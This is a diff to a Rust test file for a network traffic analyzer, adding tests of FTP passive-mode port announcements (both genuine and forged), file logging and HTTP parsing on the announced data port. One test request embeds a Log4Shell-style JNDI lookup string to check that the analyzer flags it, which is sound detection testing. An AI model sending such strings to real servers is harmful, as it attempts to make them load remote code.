@@ -150,6 +150,58 @@ fn a_forged_syn_ends_no_connection() {
     assert_eq!(rows["conn"][0]["orig_pkts"], "57", "the last forged one was a packet, too");
 }
 
+/// A control connection of FTP, or one forged packet of it, announces a port, and this is what passes there.
+fn announced(forged: bool, port: u16, passes: [&[u8]; 2]) -> PlainRows {
+    let (mut wire, mut control, mut data) = (Wire::new(), Talk::new(1, 21), Talk::new(1, port));
+    data.ends[CLIENT].1 += 1;
+    let announcement = format!("227 Entering Passive Mode (1,1,1,1,{},{})\r\n", port >> 8, port & 0xff);
+    if forged {
+        wire.send(&control.packet(SERVER, 7, 7, ACK, announcement.as_bytes()));
+    } else {
+        control.open().iter().for_each(|packet| wire.send(packet));
+        for (from, line) in [
+            (SERVER, "220 ready\r\n"),
+            (CLIENT, "PASV\r\n"),
+            (SERVER, &announcement),
+            (CLIENT, "STOR a.bin\r\n"),
+        ] {
+            control.say(from, line.as_bytes()).iter().for_each(|packet| wire.send(packet));
+        }
+    }
+    data.open().iter().for_each(|packet| wire.send(packet));
+    for (from, bytes) in [CLIENT, SERVER].into_iter().zip(passes) {
+        data.say(from, bytes).iter().for_each(|packet| wire.send(packet));
+    }
+    for (from, to) in [(CLIENT, SERVER), (SERVER, CLIENT)] {
+        wire.send(&data.packet(from, data.next[from], data.next[to], ACK | 1, b""));
+    }
+    wire.end()
+}
+
+#[test]
+fn an_announcement_of_ftp_hides_nothing() {
+    let get = b"GET /x?a=${jndi:ldap://x/a} HTTP/1.1\r\nHost: zz.example\r\n\r\n";
+    for forged in [true, false] {
+        let rows = announced(forged, 8080, [get, b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"]);
+        let http = &rows["http"][0];
+        assert_eq!((http["status_code"].as_str(), http["marks"].is_empty()), ("200", false), "{http:?}");
+    }
+    // What is nothing else is a file, however short, and where nobody has announced it nothing.
+    for length in [1usize, 100, 100_000] {
+        let file: Vec<u8> = (0..length).map(|n| (n % 251) as u8).collect();
+        let rows = announced(false, 50_000, [&file, b""]);
+        let row = &rows["files"][0];
+        let told = ["seen_bytes", "extension", "partial"].map(|column| row[column].as_str());
+        assert_eq!(told, [length.to_string().as_str(), "bin", "false"]);
+        assert!(!announced(true, 50_000, [&file, b""]).contains_key("files"));
+    }
+    let services: Vec<_> = announced(false, 50_000, [b"", b""])["conn"]
+        .iter()
+        .map(|row| row["service"].clone())
+        .collect();
+    assert!(services.contains(&"ftp-data".to_owned()), "{services:?}");
+}
+
 #[test]
 fn a_connection_that_both_ends_begin_anew_is_another_one() {
     let (mut wire, mut talk) = (Wire::new(), Talk::new(1, 2575));
